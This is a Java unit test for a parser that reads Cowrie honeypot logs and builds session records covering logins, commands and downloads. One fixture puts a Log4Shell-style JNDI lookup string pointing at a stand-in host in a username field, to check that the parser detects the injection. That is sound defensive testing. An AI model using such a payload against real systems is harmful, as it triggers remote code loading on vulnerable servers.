package yochi.node.trace;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.time.Instant;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import yochi.core.model.Country;
import yochi.core.model.Service;
import yochi.node.Collected;
import yochi.node.input.Expansion;
import yochi.node.input.Noted;
import yochi.node.input.RejectReason;
import yochi.node.observation.HoneypotSession;
import yochi.node.observation.Sensor;
import yochi.node.observation.SensorTable;

/** Cowrie's JSON lines (A-7, K-7). */
class CowrieReaderTest {
    private static final SensorTable SENSOR = SensorTable.single(Sensor.of("pot", new Country("JP")));

    private final Collected sink = new Collected();

    private static String event(String session, int second, String id, String more) {
        String time = String.format("2025-02-18T05:25:%02d.286469Z", second);
        return "{\"src_ip\":\"192.0.2.9\",\"sensor\":\"x\",\"eventid\":\"cowrie." + id + "\",\"session\":\"" + session
                + "\",\"timestamp\":\"" + time + "\"" + more + "}\n";
    }

    private InputAccount read(String text, TraceSettings settings) {
        return new TraceReader(settings).read("c.json", new ByteArrayInputStream(text.getBytes(UTF_8)), sink);
    }

    private InputAccount read(String text) {
        return read(text, TraceSettings.of(SENSOR));
    }

    @Test
    void theEventsOfASessionArePutTogether() {
        InputAccount account = read(event("a", 1, "session.connect", ",\"dst_port\":2222")
                + event("b", 2, "session.connect", ",\"dst_port\":23")
                + event("a", 3, "login.failed", ",\"username\":\"root\",\"password\":\"x\"")
                + event("a", 4, "login.failed", ",\"username\":\"root\",\"password\":\"y\"")
                + event("a", 5, "login.success", ",\"username\":\"root\",\"password\":\"y\"")
                + event("a", 6, "command.input", ",\"input\":\"uname -a\"")
                + event("a", 7, "session.file_download", ",\"url\":\"http://192.0.2.1/x\"")
                + event("a", 8, "brand.new", "")
                + event("a", 9, "session.closed", ""));
        assertThat(account.format()).contains(TraceFormat.COWRIE);
        assertThat(account.packets()).isEqualTo(9);
        assertThat(account.noted())
                .containsExactly(new Noted("unknownEvent", 1, "line 8"), new Noted("sessionNotClosed", 1, "line 2"));
        HoneypotSession a = sink.sessions.getFirst();
        assertThat(a.logins().failed()).isEqualTo(2);
        assertThat(a.logins().successful()).isEqualTo(1);
        assertThat(a.logins().credentialsInMinute()).isEqualTo(2);
        assertThat(a.commands()).isEqualTo(1);
        assertThat(a.downloads()).isEqualTo(1);
        assertThat(a.service()).isEqualTo(Service.tcp(2222));
        assertThat(a.unknownEvents()).containsExactly("cowrie.brand.new");
        assertThat(a.closed()).isTrue();
        assertThat(a.start().getEpochSecond() + 8).isEqualTo(a.end().getEpochSecond());
        assertThat(sink.sessions.get(1).closed()).isFalse();
        assertThat(a.origin().sensor().name()).isEqualTo("pot");
    }

    @Test
    void credentialsCountWithinSixtySecondsOnly() {
        String first = event("a", 1, "login.failed", ",\"username\":\"u\",\"password\":\"1\"");
        String later = event("a", 1, "login.failed", ",\"username\":\"u\",\"password\":\"2\"");
        read(event("a", 1, "session.connect", "") + first + later.replace("05:25", "05:27"));
        assertThat(sink.sessions.getFirst().logins().credentialsInMinute()).isEqualTo(1);
    }

    @Test
    void injectionInANameIsSeen() {
        read(event("a", 1, "login.failed", ",\"username\":\"${jndi:ldap://192.0.2.1/a}\",\"password\":\"\""));
        assertThat(sink.sessions.getFirst().injection()).isTrue();
    }

    @Test
    void brokenLinesAreCountedAndNothingGoodIsLost() {
        InputAccount account = read(event("a", 1, "session.connect", "")
                + "{\"eventid\":\"cowrie.session.connect\",\"session\":\"b\n"
                + "[]\n"
                + "{\"eventid\":\"other\",\"session\":\"b\"}\n"
                + event("c", 2, "session.connect", "").replace("2025-02-18T", "yesterday")
                + event("d", 3, "session.connect", "").replace("192.0.2.9", "nowhere.example")
                + event("a", 4, "session.closed", ""));
        assertThat(account.records()).isEqualTo(6); // the empty array is a mark around records, no record
        assertThat(account.rejected(RejectReason.MALFORMED)).isEqualTo(4);
        assertThat(sink.sessions).hasSize(1);
    }

    @Test
    void namesWithoutMeasureAreNotKept() {
        String longName = "x".repeat(129);
        InputAccount account = read(event(longName, 1, "session.connect", "") + event("a", 1, longName, ""));
        assertThat(account.rejected(RejectReason.MALFORMED)).isEqualTo(2);
        assertThat(sink.sessions).isEmpty();
    }

    @Test
    void theOldestSessionIsGivenUpWhenTheRoomIsFull() {
        TraceSettings two = new TraceSettings(
                Optional.empty(), SENSOR, true, 1 << 20, 1 << 18, Expansion.usual(), 2, Instant.MAX);
        InputAccount account = read(
                event("a", 1, "session.connect", "")
                        + event("b", 2, "session.connect", "")
                        + event("c", 3, "session.connect", ""),
                two);
        assertThat(account.noted().getFirst()).isEqualTo(new Noted("sessionGivenUp", 1, "line 3"));
        assertThat(sink.sessions).extracting(HoneypotSession::id).containsExactly("a", "b", "c");
    }
}
